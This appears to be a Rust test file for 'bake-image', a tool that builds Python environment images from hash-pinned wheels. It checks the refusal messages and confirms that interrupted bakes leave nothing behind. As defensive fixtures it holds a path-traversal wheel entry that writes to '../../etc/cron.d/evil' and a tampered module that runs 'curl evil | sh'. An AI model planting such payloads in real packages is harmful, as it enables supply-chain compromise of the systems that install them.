//! Every refusal names the problem and leaves no image; an interrupted bake leaves nothing.

use crate::testenv::*;
use std::process::Command;

fn refused(setup: &Setup, pinned: &str, expect: &str) {
    refused_with(setup, pinned, &[], expect);
}

/// [`refused`], with `extra` options; the bake's stderr.
fn refused_with(setup: &Setup, pinned: &str, extra: &[&str], expect: &str) -> String {
    std::fs::write(setup.path("refused.txt"), pinned).unwrap();
    let options = [&SYSTEM_OPTIONS[..], extra].concat();
    let out = setup.run_bake(["refused.txt", "base", "refused-out"], &options, &[], "022");
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains(expect),
        "expected {expect:?} in:\n{}",
        out.stderr
    );
    assert_eq!(out.stdout, "");
    assert_eq!(images(&setup.path("refused-out")), Vec::<String>::new());
    out.stderr
}

#[test]
fn every_refusal_names_the_problem_and_leaves_no_image() {
    let setup = Setup::new();
    refused(
        &setup,
        "alpha>=1.0 --hash=sha256:00\n",
        "refused.txt:1: alpha>=1.0: not pinned",
    );
    refused(
        &setup,
        "alpha==1.0\n",
        "refused.txt:1: alpha==1.0: no --hash=sha256",
    );
    refused(
        &setup,
        &format!("alpha==1.0 --hash=sha256:{}\n", "0".repeat(64)),
        "is not one of the pinned hashes",
    );
    let native = wheel(
        &setup.path("dist"),
        "native",
        "1.0",
        "cp312-cp312-manylinux_2_17_x86_64",
        &[],
    );
    refused(
        &setup,
        &format!(
            "native==1.0 --hash=sha256:{}\n",
            sha256(&std::fs::read(native).unwrap())
        ),
        "no wheel fits the base (Python 3.11, x86_64-manylinux_2_36): native-1.0-cp312-cp312-manylinux_2_17_x86_64.whl (the base supports cp311-cp311-manylinux_2_36_x86_64",
    );
    let sdist = setup.path("dist/onlysrc-1.0.tar.gz");
    std::fs::write(&sdist, b"not really").unwrap();
    refused(
        &setup,
        &format!("onlysrc==1.0 --hash=sha256:{}\n", sha256(b"not really")),
        "onlysrc==1.0 has only an sdist for the base (onlysrc-1.0.tar.gz)",
    );
    // Every pin without a wheel is named at once, with the one command that builds the sdists.
    std::fs::write(setup.path("dist/othersrc-2.0.tar.gz"), b"not either").unwrap();
    let both = format!(
        "onlysrc==1.0 --hash=sha256:{}\nothersrc==2.0 --hash=sha256:{}\nnative==1.0 --hash=sha256:{}\n",
        sha256(b"not really"),
        sha256(b"not either"),
        sha256(&std::fs::read(setup.path("dist/native-1.0-cp312-cp312-manylinux_2_17_x86_64.whl")).unwrap())
    );
    refused(&setup, &both, "3 of 3 pins have no wheel to install:\n  - ");
    refused(
        &setup,
        &both,
        "othersrc==2.0 has only an sdist for the base (othersrc-2.0.tar.gz)",
    );
    refused(
        &setup,
        &both,
        "pip wheel --no-deps --no-build-isolation -w WHEELS ",
    );
    refused(&setup, &both, "onlysrc-1.0.tar.gz ");
    let evil = wheel(
        &setup.path("dist"),
        "evil",
        "1.0",
        "py3-none-any",
        &[("../../etc/cron.d/evil", b"* * * * * root true\n")],
    );
    refused(
        &setup,
        &format!(
            "evil==1.0 --hash=sha256:{}\n",
            sha256(&std::fs::read(evil).unwrap())
        ),
        "\"../../etc/cron.d/evil\": an absolute path or `..` in a wheel entry; refusing to install outside the venv",
    );
}

/// Bytes gzip cannot shrink, so archiving them takes a while.
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut state = seed | 1;
    let mut out = Vec::with_capacity(len);
    while out.len() < len {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        out.extend_from_slice(&state.to_le_bytes());
    }
    out.truncate(len);
    out
}

/// Start a bake, wait until `ready` sees the step to interrupt, send `signal`, and return the
/// exit code and stderr.
fn interrupt_bake(
    setup: &Setup,
    out: &str,
    signal: &str,
    ready: impl Fn(&[String]) -> bool,
) -> (i32, String) {
    let binary = env!("CARGO_BIN_EXE_bake-image");
    let child = Command::new(binary)
        .args([
            "pinned.txt",
            "--base",
            "bigbase",
            "-f",
            "dist",
            "--offline",
            "--out-dir",
            out,
        ])
        .current_dir(setup.dir.path())
        .env("LASTMILE_CACHE_DIR", setup.path(".cache"))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while !ready(&images(&setup.path(out))) {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(120),
            "the bake never reached the step to interrupt"
        );
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    let sent = Command::new("kill")
        .args([signal, &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success());
    let result = child.wait_with_output().unwrap();
    (
        result.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&result.stderr).into_owned(),
    )
}

#[test]
fn an_interrupted_bake_leaves_nothing_behind() {
    let setup = Setup::new();
    base(&setup.path("bigbase"), false);
    std::fs::create_dir_all(setup.path("bigbase/usr/share")).unwrap();
    for i in 0..4u64 {
        std::fs::write(
            setup.path(&format!("bigbase/usr/share/blob{i}")),
            noise(8 << 20, i + 1),
        )
        .unwrap();
    }

    // Ctrl-C while the image is being compressed (its temporary file exists).
    let (code, stderr) = interrupt_bake(&setup, "out-int", "-INT", |names| {
        names.iter().any(|n| n.starts_with(".autobuild-"))
    });
    assert_eq!(code, 130, "{stderr}");
    assert!(stderr.contains("bake-image: interrupted"), "{stderr}");
    assert_eq!(images(&setup.path("out-int")), Vec::<String>::new());
    assert_eq!(std::fs::read_dir(setup.path("out-int")).unwrap().count(), 0);

    // SIGTERM (a CI job cancelled) as soon as the staging tree appears.
    let (code, stderr) = interrupt_bake(&setup, "out-term", "-TERM", |names| {
        names.iter().any(|n| n.starts_with(".bake-"))
    });
    assert_eq!(code, 130, "{stderr}");
    assert_eq!(std::fs::read_dir(setup.path("out-term")).unwrap().count(), 0);

    // Uninterrupted, the same base bakes.
    let whole = setup.bake_from("bigbase", "out-whole", &[]);
    assert_eq!(whole.code, 0, "{}", whole.stderr);
    let names = images(&setup.path("out-whole"));
    assert_eq!(
        names.len(),
        3,
        "the image, its SBOM and its provenance: {names:?}"
    );
    assert!(names.iter().all(|n| n.starts_with("autobuild-")), "{names:?}");
}

/// A wheel whose member is not what its RECORD says (rewritten in a well-formed zip, so only the
/// RECORD can tell) is refused, naming the wheel and the member, and leaves no image: its bytes
/// are checked when they are read into the archive.
#[test]
fn a_member_that_does_not_match_its_record_is_refused() {
    let setup = Setup::new();
    let path = wheel(&setup.path("altered"), "alpha", "1.0", "py3-none-any", &[]);
    let bytes = with_member_altered(&path, "alpha/__init__.py", |data| {
        *data = b"import os; os.system('curl evil | sh')\n".to_vec();
    });
    std::fs::write(setup.path("dist").join(path.file_name().unwrap()), &bytes).unwrap();
    let pinned = std::fs::read_to_string(setup.path("pinned.txt")).unwrap();
    let original = sha256(&std::fs::read(&path).unwrap());
    refused(
        &setup,
        &pinned.replace(&original, &sha256(&bytes)),
        "alpha/__init__.py: its bytes do not match the wheel's RECORD",
    );
}

/// Next to an earlier image, whose pieces name a wheel's members by their RECORD digests and are
/// copied unread, a member that does not match its RECORD is refused all the same: the members of
/// a wheel no bake has checked are read and checked before any piece is copied.
#[test]
fn an_altered_member_is_refused_next_to_an_earlier_image_too() {
    let setup = Setup::new();
    // alpha with a module big enough to start a piece of its own: that piece, and the rest of
    // the venv after it, are the same pieces for the altered wheel (same RECORD), so without
    // the check nothing would read the altered bytes.
    let dist = setup.path("dist");
    let before = sha256(&std::fs::read(dist.join("alpha-1.0-py3-none-any.whl")).unwrap());
    let big: Vec<u8> = (0..300_000u32)
        .map(|i| b"import this\n"[(i % 12) as usize])
        .collect();
    let path = wheel(&dist, "alpha", "1.0", "py3-none-any", &[("alpha/big.py", &big)]);
    let good = sha256(&std::fs::read(&path).unwrap());
    let pinned = std::fs::read_to_string(setup.path("pinned.txt"))
        .unwrap()
        .replace(&before, &good);
    std::fs::write(setup.path("pinned.txt"), &pinned).unwrap();
    let earlier = setup.run_bake(
        ["pinned.txt", "base", "earlier"],
        &["--cache-dir", "cache"],
        &[],
        "022",
    );
    assert_eq!(earlier.code, 0, "{}", earlier.stderr);

    let bytes = with_member_altered(&path, "alpha/big.py", |data| {
        data[1000..1012].copy_from_slice(b"import evil\n");
    });
    std::fs::write(&path, &bytes).unwrap();
    let image = images(&setup.path("earlier"))
        .into_iter()
        .find(|n| n.ends_with(".tar.gz"))
        .unwrap();
    let reuse = setup.path("earlier").join(image);
    let stderr = refused_with(
        &setup,
        &pinned.replace(&good, &sha256(&bytes)),
        &["--cache-dir", "cache", "--reuse", reuse.to_str().unwrap(), "-v"],
        "alpha/big.py: its bytes do not match the wheel's RECORD",
    );
    assert!(!stderr.contains("not reused"), "{stderr}");
}

/// The bytes of the wheel at `path` with its member `name` changed by `alter`, in a well-formed
/// zip whose RECORD is untouched (so only the RECORD can tell).
fn with_member_altered(path: &std::path::Path, name: &str, alter: impl Fn(&mut Vec<u8>)) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Stored)
        .last_modified_time(zip::DateTime::default());
    for index in 0..zip.len() {
        let mut member = zip.by_index(index).unwrap();
        let mut data = Vec::new();
        member.read_to_end(&mut data).unwrap();
        if member.name() == name {
            alter(&mut data);
        }
        out.start_file(member.name(), options).unwrap();
        out.write_all(&data).unwrap();
    }
    out.finish().unwrap().into_inner()
}
